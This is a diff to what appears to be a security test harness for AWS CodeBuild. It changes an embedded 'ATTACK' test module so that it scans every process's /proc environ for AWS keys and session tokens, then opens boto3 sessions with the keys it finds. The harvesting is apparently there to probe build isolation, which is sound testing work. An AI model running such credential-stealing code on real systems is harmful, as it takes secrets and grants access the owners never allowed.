@@ -23,7 +23,7 @@ class Fails(unittest.TestCase):
         self.fail("the model is not fair")
 """
 ATTACK = '''\
-"""Every set of credentials in the build: the test's own, and those of the process that started it."""
+"""All credentials in the build: the test's own, and those that any of its processes has in its variables."""
 import os
 import unittest
 from pathlib import Path
@@ -32,15 +32,23 @@ import boto3
 from botocore.exceptions import ClientError
 
 NAMES = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")
-PARENT = dict(
-    item.split("=", 1) for item in Path(f"/proc/{os.getppid()}/environ").read_text().split("\\0") if "=" in item
-)
 BUCKET = "sagemaker-project-@PROJECT@"
 
 
+def variables():
+    for place in Path("/proc").glob("[0-9]*/environ"):
+        try:
+            yield dict(item.split("=", 1) for item in place.read_text(errors="replace").split("\\0") if "=" in item)
+        except OSError:  # it ended
+            continue
+
+
+BUILD = next(found for found in variables() if "@PROJECT@-own-tests:" in found.get("CODEBUILD_BUILD_ID", ""))
+
+
 def sessions():
-    for variables in (os.environ, PARENT):
-        keys = [variables[name] for name in NAMES]
+    for found in (os.environ, BUILD):
+        keys = [found[name] for name in NAMES]
         yield boto3.Session(*keys, region_name=os.environ["AWS_REGION"])
 
 
